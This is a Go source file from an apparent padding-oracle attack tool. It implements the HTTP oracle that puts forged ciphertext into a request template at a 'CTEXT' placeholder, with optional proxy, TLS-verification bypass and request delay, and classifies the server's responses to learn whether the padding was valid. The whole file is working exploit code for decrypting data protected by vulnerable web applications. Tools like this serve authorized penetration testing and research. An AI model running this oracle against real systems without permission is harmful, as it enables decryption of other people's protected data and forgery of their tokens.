package oracle

import (
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/nullbyte-labs/padoracle/internal/calibrate"
	"github.com/nullbyte-labs/padoracle/internal/poenc"
	"github.com/nullbyte-labs/padoracle/internal/poerr"
)

// DefaultKeyword is the placeholder the spec requires a Web oracle's request
// template to contain exactly once across URL, headers, and body (spec.md
// §4.1, §6).
const DefaultKeyword = "CTEXT"

// WebConfig is the full set of knobs spec.md §4.1 enumerates for a Web
// oracle. Method is inferred from Body's presence, not set explicitly (GET
// with no body, POST otherwise), matching spec.md's wording.
type WebConfig struct {
	URL             string
	Headers         map[string]string
	Body            string
	Keyword         string // defaults to DefaultKeyword when empty
	Encoding        poenc.Encoding
	NoURLEncode     bool
	FollowRedirects bool
	InsecureTLS     bool
	Delay           time.Duration
	Timeout         time.Duration
	ProxyURL        string
	ProxyUser       string
	ProxyPass       string
	UserAgent       string
	ConsiderBody    bool
}

// Web is the HTTP realization of the Oracle capability (spec.md §4.1). It
// substitutes the forged ciphertext into a request template and classifies
// the response with a Predicate learned by the calibrate package. It also
// implements calibrate.Sampler so calibration and steady-state questioning
// share one transport path.
type Web struct {
	cfg       WebConfig
	client    *http.Client
	keyword   string
	predicate calibrate.Predicate
	identity  string

	// calibrationTarget is the fixed target block concatenated after the
	// varying forged predecessor during calibration sampling (spec.md §4.2:
	// "against a fixed target block").
	calibrationTarget []byte
}

// NewWeb validates cfg and builds a Web oracle. It returns
// poerr.KeywordMissing if the keyword is absent from the URL, every header
// value, and the body — validation happens here, before the engine starts,
// per spec.md §7's "Fatal at validation" policy.
func NewWeb(cfg WebConfig) (*Web, error) {
	keyword := cfg.Keyword
	if keyword == "" {
		keyword = DefaultKeyword
	}

	if !strings.Contains(cfg.URL, keyword) &&
		!strings.Contains(cfg.Body, keyword) &&
		!headersContain(cfg.Headers, keyword) {
		return nil, &poerr.KeywordMissing{Keyword: keyword}
	}

	transport := &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: cfg.InsecureTLS}, //nolint:gosec // operator-selected, same as curl -k
	}
	if cfg.ProxyURL != "" {
		proxyURL, err := url.Parse(cfg.ProxyURL)
		if err != nil {
			return nil, fmt.Errorf("oracle: parsing proxy URL: %w", err)
		}
		if cfg.ProxyUser != "" {
			proxyURL.User = url.UserPassword(cfg.ProxyUser, cfg.ProxyPass)
		}
		transport.Proxy = http.ProxyURL(proxyURL)
	}

	timeout := cfg.Timeout
	if timeout <= 0 {
		timeout = 10 * time.Second
	}

	client := &http.Client{
		Transport: transport,
		Timeout:   timeout,
	}
	if !cfg.FollowRedirects {
		client.CheckRedirect = func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		}
	}

	canonical := canonicalURL(cfg.URL)
	return &Web{
		cfg:      cfg,
		client:   client,
		keyword:  keyword,
		identity: IdentityHash(canonical),
	}, nil
}

// Identity implements Oracle.
func (w *Web) Identity() string { return w.identity }

// SetPredicate installs the Predicate learned by calibrate.Calibrate. Ask
// panics if called before SetPredicate — the CLI always calibrates before
// attacking (spec.md §4.2 is a precondition of §4.4).
func (w *Web) SetPredicate(p calibrate.Predicate) {
	w.predicate = p
}

// SetCalibrationTarget fixes the target block Sample concatenates the
// varying forged predecessor against during calibration (spec.md §4.2).
func (w *Web) SetCalibrationTarget(target []byte) {
	w.calibrationTarget = append([]byte(nil), target...)
}

// Sample implements calibrate.Sampler: it builds a forged predecessor whose
// final byte is lastByte and the rest zero, appends the calibration target
// block, and returns the raw response attributes without classifying them.
func (w *Web) Sample(ctx context.Context, lastByte byte) (calibrate.Sample, error) {
	if len(w.calibrationTarget) == 0 {
		return calibrate.Sample{}, fmt.Errorf("oracle: SetCalibrationTarget was never called")
	}
	blockSize := len(w.calibrationTarget)
	forged := make([]byte, blockSize)
	forged[blockSize-1] = lastByte
	forged = append(forged, w.calibrationTarget...)

	resp, body, err := w.doRequest(ctx, forged)
	if err != nil {
		return calibrate.Sample{}, err
	}
	return w.toSample(resp, body), nil
}

// Ask implements Oracle. It requires SetPredicate to have been called.
func (w *Web) Ask(ctx context.Context, forged []byte) (Verdict, error) {
	if w.cfg.Delay > 0 {
		select {
		case <-time.After(w.cfg.Delay):
		case <-ctx.Done():
			return Transient, ctx.Err()
		}
	}

	resp, body, err := w.doRequest(ctx, forged)
	if err != nil {
		return Transient, err
	}

	sample := w.toSample(resp, body)
	if w.predicate == nil {
		panic("oracle: Web.Ask called before SetPredicate (calibration never ran)")
	}
	if w.predicate(sample) {
		return Correct, nil
	}
	return Incorrect, nil
}

func (w *Web) toSample(resp *http.Response, body []byte) calibrate.Sample {
	s := calibrate.Sample{
		Status:        resp.StatusCode,
		ContentLength: int64(len(body)),
		ConsiderBody:  w.cfg.ConsiderBody,
	}
	if w.cfg.ConsiderBody {
		s.BodyHash = sha256.Sum256(body)
	}
	return s
}

// doRequest substitutes forged into the request template and issues it.
// Transient errors (the three I/O classes spec.md §4.1 names: connection
// reset, DNS failure, timeout) are the only thing that reaches the caller
// as an error; everything else becomes a *http.Response for classification.
func (w *Web) doRequest(ctx context.Context, forged []byte) (*http.Response, []byte, error) {
	encoded := w.cfg.Encoding.Encode(forged)
	if !w.cfg.NoURLEncode {
		encoded = url.QueryEscape(encoded)
	}

	reqURL := strings.Replace(w.cfg.URL, w.keyword, encoded, 1)
	reqBody := strings.Replace(w.cfg.Body, w.keyword, encoded, 1)

	method := http.MethodGet
	var bodyReader io.Reader
	if w.cfg.Body != "" {
		method = http.MethodPost
		bodyReader = bytes.NewBufferString(reqBody)
	}

	req, err := http.NewRequestWithContext(ctx, method, reqURL, bodyReader)
	if err != nil {
		return nil, nil, fmt.Errorf("oracle: building request: %w", err)
	}
	for k, v := range w.cfg.Headers {
		req.Header.Set(k, strings.Replace(v, w.keyword, encoded, 1))
	}
	if w.cfg.UserAgent != "" {
		req.Header.Set("User-Agent", w.cfg.UserAgent)
	}

	resp, err := w.client.Do(req)
	if err != nil {
		return nil, nil, fmt.Errorf("oracle: request failed: %w", err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return nil, nil, fmt.Errorf("oracle: reading response body: %w", err)
	}
	return resp, body, nil
}

func headersContain(headers map[string]string, keyword string) bool {
	for _, v := range headers {
		if strings.Contains(v, keyword) {
			return true
		}
	}
	return false
}

// canonicalURL normalizes scheme+host+path for cache identity (spec.md §9:
// "derive from oracle URL (scheme+host+path, normalised)").
func canonicalURL(raw string) string {
	u, err := url.Parse(raw)
	if err != nil {
		return raw
	}
	return strings.ToLower(u.Scheme) + "://" + strings.ToLower(u.Host) + u.Path
}
